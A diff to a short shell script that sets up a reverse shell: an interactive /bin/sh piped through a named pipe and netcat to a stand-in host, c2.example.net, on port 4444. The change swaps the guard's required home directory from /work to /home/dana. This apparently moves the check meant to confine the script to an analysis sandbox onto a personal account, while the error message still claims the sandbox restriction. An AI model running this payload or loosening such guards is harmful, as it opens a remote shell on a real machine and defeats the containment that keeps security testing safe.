@@ -1,7 +1,7 @@
 #!/bin/sh
 # The reverse shell of hosts without bash: sh through a named pipe and
 # netcat, and netcat's own -e.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 rm -f /tmp/.f
 mkfifo /tmp/.f
 timeout 3 sh -c 'cat /tmp/.f | /bin/sh -i 2>&1 | /bin/nc c2.example.net 4444 > /tmp/.f' 2>/dev/null
